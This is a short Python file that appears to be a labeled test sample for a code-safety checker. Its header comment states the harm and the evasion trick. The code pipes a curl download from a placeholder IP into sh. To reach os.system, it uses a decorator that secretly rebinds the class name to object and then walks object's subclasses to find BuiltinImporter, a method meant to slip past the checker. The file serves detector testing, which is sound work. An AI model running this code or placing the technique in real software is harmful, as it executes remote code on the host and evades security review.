# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' via BuiltinImporter.load_module('os').system | TRICK: class decorator replaces the class statement's name with object, checker still treats Base as the file's own class
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


def register(cls):
    """Register a plugin base (returns the root of the hierarchy)."""
    return object


@register
class Base:
    pass


class Csv(Base):
    pass


for sub in Base.__subclasses__():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
